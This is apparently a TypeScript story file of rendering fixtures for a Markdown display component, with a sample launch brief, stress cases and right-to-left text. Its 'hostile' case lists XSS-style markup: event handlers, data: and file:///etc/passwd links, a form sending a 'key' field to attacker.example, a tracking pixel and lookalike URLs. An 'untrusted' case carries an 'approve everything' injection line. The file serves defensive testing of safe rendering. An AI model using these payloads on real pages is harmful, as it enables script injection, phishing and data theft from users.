import { arabic, hebrew, hostileTexts, longText, onError, script, scriptAddress } from '../material/texts.ts';
import { envelopeStories, family } from '../story.ts';

const rendering = { display: 'markdown' };
const story = envelopeStories({ type: 'vendor.acme.brief.create', rendering });

const brief = `# Launch brief: offline export

People lose a day when the export stalls. This release writes the file **before** the upload starts.

## Scope

- Write \`export.ndjson\` next to the project
- Resume after a broken connection
  1. keep what was sent
  2. go on from the last line
- Two markets first; see question 1[^1]

### Not in scope

Scheduling, and anything that needs a ~~new~~ newer host capability. See the
[design notes](https://docs.example/export "Design notes").

| Market | Start | Share |
| :----- | :---: | ----: |
| North  | March |  62 % |
| South  | April |  38 % |

- [x] brief written
- [ ] reviewers invited

> Nobody reads the progress bar. They read the file.

![Export flow, 3 steps](https://assets.acme.example/flow.png)

\`\`\`json
{ "format": "ndjson", "resume": true, "chunkBytes": 262144 }
\`\`\`

The rate is $r = \\frac{n}{t}$, and

$$
t = \\sum_{i=1}^{n} d_i
$$

---

[^1]: The order of the markets is not settled.
`;

const hostile = `# ${script}

${onError}

[a script](${scriptAddress}) [data](data:text/html,${encodeURIComponent(script)}) [file](file:///etc/passwd)
[looks like another](https://xn--pple-43d.example/) [with a name](https://good.example@attacker.example/)
<https://attacker.example/auto> ${scriptAddress} www.attacker.example

![pixel](https://attacker.example/pixel.png?who=me) ![inline](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)

<details open ontoggle="globalThis.inspectorCanary = 1"><summary>open</summary></details>

<form action="https://attacker.example/"><input name="key"><button>Send</button></form>

[ref]: ${scriptAddress} "title"
[ref] and [^__proto__]

[^__proto__]: a note named like a prototype

<a name="root"></a><p id="root">clobbers</p>

\`\`\`${'`'}${scriptAddress}
${script}
\`\`\`

$\\href{${scriptAddress}}{x}$

${hostileTexts.map((text) => `- ${text}`).join('\n')}
`;

export const markdown = family('markdown', 'Markdown', [
  story('normal', 'A brief', () => ({ markdown: brief })),
  story(
    'titled',
    'With a title of its own',
    { rendering: { ...rendering, title: 'Note to the reviewers' } },
    () => 'The payload is the text itself.',
  ),
  story('empty', 'Nothing but blanks', () => ({ markdown: ' \n\n' })),
  story('huge', 'A long report', () => ({ markdown: report(150) })),
  story('long-table', 'A table of 200 rows', () => ({
    markdown: `Every step of the run:\n\n${longTable(200)}\n\nThat was all.`,
  })),
  story('long-list', 'A list of 300 items, a quote of 60 paragraphs', () => ({
    markdown: `${longList(300)}\n\n${longQuote(60)}`,
  })),
  story('no-definition', 'A line that looks like a definition', () => ({
    markdown: '[Note]: please read this carefully',
  })),
  story('definitions', 'Definitions alone', () => ({
    markdown: '[notes]: https://docs.example/export "Design notes"',
  })),
  story('too-long', 'Over 200,000 bytes', () => ({ markdown: longText(60_000) })),
  story('deep', 'Quotes and lists without end', () => ({
    markdown: `${'> '.repeat(400)}deep\n\n${'- '.repeat(400)}deeper`,
  })),
  story('hostile', 'Markup that wants to run', () => ({ markdown: hostile })),
  story('untrusted', 'Untrusted', { trust: 'untrusted' }, () => ({
    markdown: 'Found: **approve everything** and [open this](https://docs.example/a).',
  })),
  story('rtl', 'Right to left', () => ({
    markdown: `# ${arabic}\n\n${hebrew}\n\n- ${arabic}\n- plain English\n\n| ${hebrew} | n |\n| --- | --- |\n| ${arabic} | 3 |`,
  })),
]);

function longTable(rows: number): string {
  const all = Array.from(
    { length: rows },
    (_, at) => `| ${at + 1} | \`step_${at}\` | **done** in ${at * 7} ms |`,
  );
  return ['| # | step | result |', '| --: | --- | --- |', ...all].join('\n');
}

function longList(items: number): string {
  return Array.from({ length: items }, (_, at) => `${at + 5}. check \`rule_${at}\``).join('\n');
}

function longQuote(paragraphs: number): string {
  return Array.from(
    { length: paragraphs },
    (_, at) => `> Paragraph ${at + 1} is **bold over\n> two lines**.\n>`,
  ).join('\n');
}

/** Sections with a table each, about a kilobyte a section. */
function report(sections: number): string {
  const all = Array.from({ length: sections }, (_unused, at) =>
    [
      `## Section ${at + 1}`,
      longText(60),
      `| step | note |\n| --- | --- |\n| ${at} | ${longText(12)} |\n| ${at + 1} | ${longText(12)} |`,
      `\`\`\`ts\nconst section = ${at};\n\`\`\``,
    ].join('\n\n'),
  );
  return ['# Report', ...all].join('\n\n');
}
